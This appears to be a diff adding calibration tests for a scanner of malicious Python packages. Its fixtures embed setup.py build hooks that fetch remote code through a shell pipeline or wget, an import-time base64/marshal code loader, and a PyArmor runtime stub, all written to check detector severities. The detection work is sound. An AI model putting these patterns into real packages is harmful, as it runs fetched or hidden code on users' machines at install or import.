@@ -1,0 +1,79 @@
+"""Calibration against popular projects outside the dev set (bench/detect/heldout.py): shapes that
+legitimate packages have are not blocked, while the malicious forms next to them still are."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from pipwarden import analyze
+from pipwarden.archive import read_archive
+from pipwarden.models import Artifact, Finding, PackageRef, Severity
+from tests.builders import make_sdist
+
+BUILD_RUST = '''
+import subprocess
+from setuptools import setup
+from setuptools.command.build_ext import build_ext
+
+
+class BuildRust(build_ext):
+    def run(self):
+        subprocess.run({command}, check=True{shell})
+        super().run()
+
+
+setup(name="demo", version="1.0", cmdclass={{"build_ext": BuildRust}})
+'''
+
+FUNC_LOAD = '''
+import codecs
+import marshal
+import types
+
+
+def func_load(code, globs=None):
+    raw = codecs.decode(code.encode("ascii"), "base64")
+    return types.FunctionType(marshal.loads(raw), globs or globals())
+{call}
+'''
+
+
+def _scan(tmp: Path, setup_py: str | None = None, files: dict[str, str] | None = None) -> list[Finding]:
+    tmp.mkdir(parents=True, exist_ok=True)
+    sdist = make_sdist(tmp, "demo", "1.0", files or {"demo/__init__.py": ""},
+                       setup_py=setup_py or "from setuptools import setup\nsetup(name='demo', version='1.0')\n")
+    _, findings = analyze.analyze_archive(read_archive(sdist), Artifact(sdist.name, path=sdist),
+                                          PackageRef("demo", path=sdist))
+    return findings
+
+
+def _worst(findings: list[Finding], check_id: str) -> Severity | None:
+    return max((f.severity for f in findings if f.id == check_id), default=None)
+
+
+def test_build_tool_fetching_sources_is_a_warning_not_a_block(tmp_path: Path) -> None:
+    argv = '["cargo", "install", "--git", "https://example.org/tools/dedup", "dedup"]'
+    assert _worst(_scan(tmp_path / "a", BUILD_RUST.format(command=argv, shell="")), "PW101") == Severity.MEDIUM
+    # The same URL through a shell pipeline, or fetched by something that is not a build tool, stays high.
+    chained = '"git clone https://example.org/x && python x/run.py"'
+    assert _worst(_scan(tmp_path / "b", BUILD_RUST.format(command=chained, shell=", shell=True")),
+                  "PW101") == Severity.HIGH
+    fetch = '["wget", "https://example.org/x"]'
+    assert _worst(_scan(tmp_path / "c", BUILD_RUST.format(command=fetch, shell="")), "PW101") == Severity.HIGH
+
+
+def test_deserializer_in_a_function_is_a_warning_but_a_literal_payload_is_critical(tmp_path: Path) -> None:
+    quiet = _scan(tmp_path / "a", files={"demo/__init__.py": "", "demo/serialize.py": FUNC_LOAD.format(call="")})
+    assert _worst(quiet, "PW103") == Severity.MEDIUM
+    # Called at import time with a literal blob: the decoded code runs on import.
+    loud = _scan(tmp_path / "b", files={"demo/__init__.py": FUNC_LOAD.format(call="func_load('YWJj')")})
+    assert _worst(loud, "PW103") == Severity.CRITICAL
+
+
+def test_naming_pyarmor_markers_is_not_being_protected(tmp_path: Path) -> None:
+    detector = ('_MARKERS = ("__armor_enter__", "__armor_exit__")\n'
+                '_RUNTIMES = ("pytransform", "pyarmor_runtime")\n')
+    assert _worst(_scan(tmp_path / "a", files={"demo/__init__.py": detector}), "PW112") is None
+    stub = ("from pyarmor_runtime_000000 import __pyarmor__\n"
+            "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n")
+    assert _worst(_scan(tmp_path / "b", files={"demo/__init__.py": stub}), "PW112") == Severity.HIGH
